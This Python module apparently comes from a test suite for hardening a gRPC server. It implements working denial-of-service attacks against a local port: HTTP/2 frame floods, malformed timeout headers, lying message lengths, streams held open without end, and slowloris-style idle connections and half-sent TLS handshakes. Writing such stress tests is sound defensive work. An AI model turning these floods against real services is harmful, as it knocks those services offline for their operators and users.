"""Frames of HTTP/2 without end, and beginnings of TLS, that clients may send to the gRPC port; for `bench.hostile`."""

from __future__ import annotations

import itertools
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from bench.grpc_attacks import _AUTHORIZED, _INFER, _PREFACE, _frame, _head_block, _literal, _send_and_drop
from bench.hostile_server import AttackTarget

#: Types of frames, and flags (RFC 9113, 6).
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 2, 3, 4, 6, 7, 8
_END_STREAM, _END_HEADERS, _PADDED = 1, 4, 8
_HELD, _ADDRESSES = 300, 10


def _flood(frames: bytes) -> Callable[[AttackTarget, Callable[[], bool]], None]:
    """Return the attack that sends the same frames again and again, on one connection after another."""

    def attack(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
        while goes_on():
            _send_and_drop(target, goes_on, frames)

    return attack


def _open(number: int = 1, flags: int = _END_HEADERS, more: bytes = b"") -> bytes:
    return _frame(_HEADERS, flags, number, _head_block(_INFER, (_AUTHORIZED,)) + more)


def _calls(more: Callable[[int], bytes], head: bytes | None = None) -> bytes:
    """Return calls on nine hundred streams of which each has ``more`` behind its head."""
    block = _head_block(_INFER, (_AUTHORIZED,)) if head is None else head
    return b"".join(_frame(_HEADERS, _END_HEADERS, number, block) + more(number) for number in range(1, 1801, 2))


def _timeouts() -> Iterator[str]:
    yield from ("0n", "1n", "99999999H", "-1S", "1", "", "1e9S", "999999999S", "1x", " 1S", "1S,1S", "\x7f" * 100)


#: Of a client without the token.
empty_data = _flood(_open() + _frame(_DATA, 0, 1, b"") * 20_000)
data_of_a_byte = _flood(_open() + _frame(_DATA, 0, 1, b"x") * 20_000)
padded_data = _flood(_open() + _frame(_DATA, _PADDED, 1, b"\xff" + bytes(255)) * 4000)
priorities = _flood(_open() + b"".join(_frame(_PRIORITY, 0, n, struct.pack(">IB", 0, 7)) for n in range(3, 40_001, 2)))
window_updates = _flood(_open() + _frame(_WINDOW, 0, 1, b"\0\0\0\1") * 20_000)
too_wide_windows = _flood(_open() + _frame(_WINDOW, 0, 1, b"\x7f\xff\xff\xff") * 2)
ping_answers = _flood(_frame(_PING, 1, 0, bytes(8)) * 20_000)
goaways = _flood(_frame(_GOAWAY, 0, 0, struct.pack(">II", 0, 0) + bytes(1000)) * 2000)
unknown_frames = _flood(_frame(200, 255, 1, bytes(100)) * 20_000)
table_sizes = _flood(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 1, 0) + struct.pack(">HI", 1, 1 << 20)) * 5000)
wrong_heads = _flood(_calls(lambda number: b"", _literal("a", "b") + _head_block(_INFER, ())))
long_paths = _flood(_calls(lambda number: b"", _head_block("/" + "a" * 100, ()) + _literal("b", "c" * 126) * 50))
trailers = _flood(_calls(lambda number: _frame(_HEADERS, _END_HEADERS | _END_STREAM, number, _literal("a", "b") * 60)))
late_resets = _flood(
    _calls(
        lambda n: _frame(_DATA, _END_STREAM, n, b"") + _frame(_RST_STREAM, 0, n, bytes(4)) + _frame(_DATA, 0, n, b"x")
    )
)
timeouts = _flood(
    b"".join(
        _frame(_HEADERS, _END_HEADERS | _END_STREAM, number, _head_block(_INFER, (("grpc-timeout", text),)))
        for number, text in zip(range(1, 1801, 2), itertools.cycle(_timeouts()), strict=False)
    )
)
#: Of one with the token.
lying_lengths = _flood(
    _calls(lambda n: _frame(_DATA, _END_STREAM, n, struct.pack(">BI", 0, (1 << 32) - 1 if n % 4 == 1 else 1000) + b"x"))
)
endless_streams = _flood(_calls(lambda number: _frame(_DATA, 0, number, b"\0\0\0\0\x05a")))


def held_streams(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Begin nine hundred calls on each of many connections, end none, and say nothing more."""
    _hold(target, goes_on, _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _calls(lambda number: b""), 10)


def calls_of_ten_addresses(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Hold as many calls as ten addresses may have for a second, and leave them all at once."""
    data = _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _calls(lambda number: b"")
    while goes_on():
        with ExitStack() as opened:
            for number in range(_ADDRESSES):
                with suppress(OSError):
                    source = (f"127.0.1.{number + 1}", 0)
                    connection = opened.enter_context(socket.create_connection(("127.0.0.1", target.grpc), 5.0, source))
                    connection.sendall(data)
            time.sleep(1.0)


def idle_connections(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Hold more connections than there may be, on which nothing is asked."""
    _hold(target, goes_on, _PREFACE + _frame(_SETTINGS, 0, 0, b""), 600)


def half_hellos(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Send half of what TLS begins with, on hundreds of connections."""
    _hold(target, goes_on, _make_hello()[:100], _HELD)


def whole_hellos(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
    """Begin TLS on hundreds of connections, and do not go on."""
    _hold(target, goes_on, _make_hello(), _HELD)


def _make_hello() -> bytes:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    begun = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), begun).do_handshake()
    return begun.read()


def _hold(target: AttackTarget, goes_on: Callable[[], bool], data: bytes, count: int) -> None:
    """Send the same on so many connections at a time, and then on others."""
    while goes_on():
        with ExitStack() as opened:
            for _ in range(count):
                if not goes_on():
                    return
                with suppress(OSError):
                    connection = opened.enter_context(socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0))
                    connection.sendall(data)
